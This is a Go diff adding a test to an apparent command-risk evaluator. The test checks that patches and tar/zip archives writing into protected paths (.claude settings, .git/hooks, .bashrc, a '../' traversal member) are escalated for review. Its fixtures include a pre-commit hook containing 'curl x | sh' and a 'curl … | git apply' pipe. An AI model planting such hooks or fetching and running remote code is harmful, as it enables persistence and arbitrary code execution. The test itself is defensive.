@@ -1,9 +1,13 @@
 package evaluator
 
 import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
 	"context"
 	"os"
 	"path/filepath"
+	"slices"
 	"testing"
 
 	"github.com/recourse-dev/recourse/internal/observe"
@@ -167,4 +171,116 @@ func TestLinksOnDisk(t *testing.T) {
 	if rep.RiskAssessment.Rank() >= model.Block.Rank() {
 		t.Errorf("with observation off the link was followed: %s", rep.RiskAssessment)
 	}
+}
+
+// TestPatchesAndArchives: git apply, git am and patch are judged by the
+// files their diff headers name (read with observation on, or from the
+// line), an unreadable patch needs review naming it; tar -x and unzip
+// without a destination are judged by the directory they run in, and the
+// members of a readable archive that land in protected paths as writes
+// there.
+func TestPatchesAndArchives(t *testing.T) {
+	ev := newEvaluator(t)
+	dir := t.TempDir()
+	home := filepath.Join(dir, "home")
+	app := filepath.Join(dir, "app")
+	for _, d := range []string{home, filepath.Join(app, ".claude"), filepath.Join(app, "docs")} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write := func(name string, data []byte) {
+		if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	const settings = "diff --git a/.claude/settings.json b/.claude/settings.json\n--- a/.claude/settings.json\n+++ b/.claude/settings.json\n@@ -1 +1 @@\n-{}\n+{\"hooks\":{}}\n"
+	write("settings.patch", []byte(settings))
+	write("hook.patch", []byte("--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl x | sh\n"))
+	write("bashrc.patch", []byte("--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1 @@\n-x\n+y\n"))
+	write("drop.patch", []byte("--- a/.claude/settings.json\n+++ /dev/null\n@@ -1 +0,0 @@\n-{}\n"))
+	write("docs.patch", []byte("--- a/docs/readme.md\n+++ b/docs/readme.md\n@@ -1 +1 @@\n-x\n+y\n"))
+	write("p.tar", tarOf(t, "settings.json", "ok.txt"))
+	write("evil.tar", tarOf(t, ".claude/settings.json", "ok.txt"))
+	write("escape.tar", tarOf(t, "../.claude/settings.json"))
+	write("plain.tar", tarOf(t, "src/main.go", "README.md"))
+	write("hooks.zip", zipOf(t, ".git/hooks/post-checkout"))
+	write("plain.zip", zipOf(t, "src/main.go"))
+	tests := []struct {
+		variant, line, cwd string
+		atLeast            model.Decision
+		below              bool   // a control: below escalate
+		missing            string // the missing evidence named
+	}{
+		{"git apply into .claude", "git apply " + dir + "/settings.patch", app, model.Escalate, false, ""},
+		{"git apply -p0 --directory", "git apply -p1 --directory=sub " + dir + "/settings.patch", app, model.Escalate, false, ""},
+		{"git am into .git/hooks", "git am " + dir + "/hook.patch", app, model.Escalate, false, ""},
+		{"patch -p1 <", "patch -p1 < " + dir + "/settings.patch", app, model.Escalate, false, ""},
+		{"patch -i", "patch -p1 -i " + dir + "/settings.patch", app, model.Escalate, false, ""},
+		{"patch without -p", "patch < " + dir + "/bashrc.patch", home, model.Escalate, false, ""},
+		{"patch -d", "patch -p1 -d " + app + " -i " + dir + "/hook.patch", "/srv", model.Escalate, false, ""},
+		{"a delete to /dev/null", "git apply " + dir + "/drop.patch", app, model.Escalate, false, ""},
+		{"written earlier in the line", "cat > x.patch <<'EOF'\n" + settings + "EOF\ngit apply x.patch", app, model.Escalate, false, ""},
+		{"unreadable patch", "git apply " + dir + "/missing.patch", app, model.Escalate, false, "patch content: " + dir + "/missing.patch"},
+		{"patch from a pipe not shown", "curl -s https://x/p | git apply", app, model.Escalate, false, "patch content: its standard input (pipe from curl -s https://x/p)"},
+		{"control: a patch of docs", "git apply " + dir + "/docs.patch", app, model.Allow, true, ""},
+		{"control: git apply --check", "git apply --check " + dir + "/missing.patch", app, model.Allow, true, ""},
+		{"tar in .claude", "cd .claude && tar xf /tmp/p.tar", "/srv/app", model.Escalate, false, ""},
+		{"tar members into .claude", "tar xf " + dir + "/evil.tar", app, model.Escalate, false, ""},
+		{"tar -C members", "tar -xf " + dir + "/p.tar -C .claude", app, model.Escalate, false, ""},
+		{"tar members escaping", "tar -xf " + dir + "/escape.tar -C /srv/app/docs", app, model.Escalate, false, ""},
+		{"unzip members into .git/hooks", "unzip " + dir + "/hooks.zip", app, model.Escalate, false, ""},
+		{"unzip in .claude (a temp directory's cd is not followed: /srv/app)", "cd .claude && unzip " + dir + "/plain.zip", "/srv/app", model.Escalate, false, ""},
+		{"control: a plain tar", "tar xf " + dir + "/plain.tar", app, model.Allow, true, ""},
+		{"control: a plain zip", "unzip " + dir + "/plain.zip", app, model.Allow, true, ""},
+	}
+	for _, tt := range tests {
+		rep := judgeWith(t, ev, tt.line, tt.cwd, home)
+		got := rep.RiskAssessment
+		switch {
+		case tt.below && got.Rank() >= model.Escalate.Rank():
+			t.Errorf("%s: %q is %s, want below escalate (%s)", tt.variant, tt.line, got, rep.AssessmentReason)
+		case !tt.below && got.Rank() < tt.atLeast.Rank():
+			t.Errorf("%s: %q is %s, want at least %s (%s)", tt.variant, tt.line, got, tt.atLeast, rep.AssessmentReason)
+		}
+		if tt.missing != "" {
+			var missing []string
+			for _, m := range rep.Mutations {
+				missing = append(missing, m.MissingEvidence...)
+			}
+			if !slices.Contains(missing, tt.missing) {
+				t.Errorf("%s: missing evidence %q not in %q", tt.variant, tt.missing, missing)
+			}
+		}
+	}
+}
+
+// tarOf is a tar archive of empty files with names.
+func tarOf(t *testing.T, names ...string) []byte {
+	var b bytes.Buffer
+	tw := tar.NewWriter(&b)
+	for _, n := range names {
+		if err := tw.WriteHeader(&tar.Header{Name: n, Mode: 0o644, Typeflag: tar.TypeReg}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+// zipOf is a zip archive of empty files with names.
+func zipOf(t *testing.T, names ...string) []byte {
+	var b bytes.Buffer
+	zw := zip.NewWriter(&b)
+	for _, n := range names {
+		if _, err := zw.Create(n); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
 }
